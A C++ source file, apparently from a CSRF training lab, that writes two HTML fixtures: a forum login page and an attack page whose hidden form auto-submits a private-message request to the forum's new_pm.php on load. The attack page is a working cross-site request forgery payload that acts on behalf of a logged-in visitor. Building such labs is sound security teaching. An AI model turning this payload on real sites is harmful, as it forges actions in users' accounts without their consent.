#include "csrflab/fixtures.hpp"

#include <fstream>

#include "csrflab/errors.hpp"

namespace csrflab::fixtures {
namespace {

void write_file(const std::filesystem::path& path, const std::string& content) {
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    if (!out) throw LabError("cannot write " + path.string());
    out << content;
}

}  // namespace

std::string attack_form_html(std::string_view authority, std::string_view recipient) {
    std::string a(authority);
    std::string r(recipient);
    return "<html>\n"
           "  <head>\n"
           "  </head>\n"
           "  <body>\n"
           "    <form id=\"post-form\" action=\"http://" + a + "/cgi-bin/Forum/new_pm.php\" method=\"post\">\n"
           "      <input type=\"hidden\" value=\"WebView Attack from android\" id=\"title\" name=\"title\" /><br />\n"
           "      <input type=\"hidden\" value=\"" + r + "\" id=\"recip\" name=\"recip\" />\n"
           "      <input type=\"hidden\" value=\"WebView attack message from Android\" id=\"message\" name=\"message\" />\n"
           "      <input type=\"submit\" value=\"Send\" />\n"
           "    </form>\n"
           "    <script type=\"text/javascript\">\n"
           "      document.getElementById(\"post-form\").submit();\n"
           "    </script>\n"
           "  </body>\n"
           "</html>\n";
}

std::string login_page_html(std::string_view authority) {
    std::string a(authority);
    return "<html>\n"
           "  <head>\n"
           "    <title>Forum login</title>\n"
           "  </head>\n"
           "  <body>\n"
           "    <form id=\"login-form\" action=\"http://" + a + "/cgi-bin/Forum/login.php\" method=\"post\">\n"
           "      <input type=\"text\" name=\"username\" value=\"\" />\n"
           "      <input type=\"password\" name=\"password\" value=\"\" />\n"
           "      <input type=\"submit\" value=\"Login\" />\n"
           "    </form>\n"
           "  </body>\n"
           "</html>\n";
}

void emit(const std::filesystem::path& dir, std::string_view authority, std::string_view recipient) {
    std::filesystem::create_directories(dir);
    write_file(dir / kAttackFormName, attack_form_html(authority, recipient));
    write_file(dir / kLoginPageName, login_page_html(authority));
}

}  // namespace csrflab::fixtures
